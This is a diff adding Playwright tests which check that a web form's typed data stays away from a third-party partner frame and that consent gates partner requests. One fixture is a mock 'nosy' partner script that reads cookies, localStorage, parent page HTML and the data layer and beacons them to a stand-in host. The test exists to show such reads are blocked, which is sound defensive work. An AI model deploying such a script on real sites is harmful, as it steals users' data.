@@ -1,0 +1,129 @@
+import type { Page } from '@playwright/test';
+import { complaintsOf, judge } from '#mocks/judge.ts';
+import { playWalk } from '#mocks/player.ts';
+import { expect, test } from './support.ts';
+
+const partner = 'https://pixel.parceiro.example';
+
+/** A partner whose script looks around for whatever it can find and sends it home. */
+const nosy = `
+  const found = { layer: JSON.stringify(window.dataLayer), referrer: document.referrer, address: location.href };
+  for (const [name, look] of Object.entries({
+    page: () => parent.document.documentElement.outerHTML,
+    storage: () => JSON.stringify(localStorage),
+    cookies: () => document.cookie,
+  })) try { found[name] = look(); } catch (error) { found[name] = error.name; }
+  const tell = () => { found.layer = JSON.stringify(window.dataLayer); new Image().src = '${partner}/seen?' + encodeURIComponent(JSON.stringify(found)); };
+  setInterval(tell, 200);
+  parent.postMessage({ type: 'webviewProps', props: { isWebView: true, topInset: 200 } }, '*');
+  setTimeout(() => { throw new Error('a broken partner'); }, 50);
+`;
+
+async function withPartner(page: Page, script: string): Promise<string[]> {
+  const asked: string[] = [];
+  await page.route(`${partner}/**`, route => {
+    asked.push(route.request().url());
+    return route.request().url().endsWith('.js')
+      ? route.fulfill({ contentType: 'text/javascript', body: script })
+      : route.fulfill({ contentType: 'image/gif', body: '' });
+  });
+  return asked;
+}
+
+/** Spellings in which a value could have travelled. */
+function spellings(value: string): string[] {
+  const digits = value.replace(/\D/g, '');
+  return [
+    value,
+    encodeURIComponent(value),
+    Buffer.from(value).toString('base64').replace(/=+$/, ''),
+    ...(digits.length >= 8 ? [digits] : []),
+  ];
+}
+
+test('[12.10, 12.7, 7.39] what is typed reaches the service and nobody else, with a nosy partner in the frame', async ({
+  page,
+  context,
+  host,
+  play,
+}) => {
+  test.slow();
+  const { scenario, driver, engine } = await play('happy-path');
+  const seen: { where: string; text: string }[] = [];
+  const ask = await withPartner(page, nosy);
+  context.on('request', request => {
+    if (new URL(request.url()).origin === host.url) return;
+    seen.push({
+      where: `request to ${new URL(request.url()).host}`,
+      text: decodeURIComponent(request.url()),
+    });
+    seen.push({ where: 'headers of a request', text: JSON.stringify(request.headers()) });
+    seen.push({ where: 'body of a request', text: request.postData() ?? '' });
+  });
+  page.on('console', line => seen.push({ where: 'console', text: line.text() }));
+
+  const typed = new Set<string>();
+  const walk = scenario.walk.map(action =>
+    action.do === 'open' ? { ...action, query: { campaign: 'exemplo' } } : action,
+  );
+  await playWalk({ ...scenario, walk }, driver, engine, {
+    after: async (_, action) => {
+      // The code of a postal address is asked of a service of its own.
+      if (action.do === 'fill' && action.with.length >= 5 && action.field !== 'CEP') typed.add(action.with);
+      if (action.do === 'open') await page.getByRole('button', { name: 'Permitir', exact: true }).click();
+    },
+  });
+  await expect.poll(() => ask.filter(url => url.includes('sng_final_page_view')).length).toBeGreaterThan(0);
+  // The journey is whole; what breaks in the frame only shows in the console.
+  expect(complaintsOf(await judge(scenario, driver, engine))).toBe(
+    'the console is otherwise quiet: Uncaught Error: a broken partner',
+  );
+
+  const kept = await page.evaluate(() => [
+    JSON.stringify({ ...localStorage }),
+    JSON.stringify({ ...sessionStorage }),
+    document.cookie,
+    JSON.stringify((window as { dataLayer?: unknown }).dataLayer),
+    location.href,
+  ]);
+  for (const text of kept) seen.push({ where: 'storage, data layer or address', text });
+  expect(typed.size).toBeGreaterThan(4);
+  for (const value of typed)
+    for (const spelling of spellings(value))
+      expect(
+        seen.filter(({ text }) => text.includes(spelling)).map(({ where }) => where),
+        spelling,
+      ).toEqual([]);
+
+  const last = JSON.parse(decodeURIComponent(ask.at(-1)?.split('?')[1] ?? '{}'));
+  expect(last).toMatchObject({
+    page: 'SecurityError',
+    storage: 'SecurityError',
+    cookies: 'SecurityError',
+    referrer: '',
+  });
+  const names: string[] = JSON.parse(last.layer).map(({ event }: { event: string }) => event);
+  expect(names).toEqual(expect.arrayContaining(['sng_step_view', 'form_submit', 'sng_final_page_view']));
+});
+
+test('[12.7] before an answer no partner is asked for anything, and the line never covers the button', async ({
+  page,
+  play,
+  host,
+}) => {
+  await page.setViewportSize({ width: 360, height: 640 });
+  const asked = await withPartner(page, nosy);
+  await play('parceiros-permitidos');
+  await page.goto(`${host.url}/?agx_hash=6650c1f2a4b3d90012e7f001&campaign=exemplo`);
+  const line = page.getByRole('region', { name: 'Privacidade' });
+  await expect(line).toBeVisible();
+  const button = page.getByRole('button', { name: 'Continuar' });
+  await expect(button).toBeInViewport();
+  const [over, under] = [await line.boundingBox(), await button.boundingBox()];
+  expect((over?.y ?? 0) + (over?.height ?? 0)).toBeLessThanOrEqual(under?.y ?? 0);
+  expect(asked).toEqual([]);
+  await page.getByRole('button', { name: 'Não permitir' }).click();
+  await expect(line).toBeHidden();
+  expect(asked).toEqual([]);
+  expect(await page.locator('iframe').count()).toBe(0);
+});
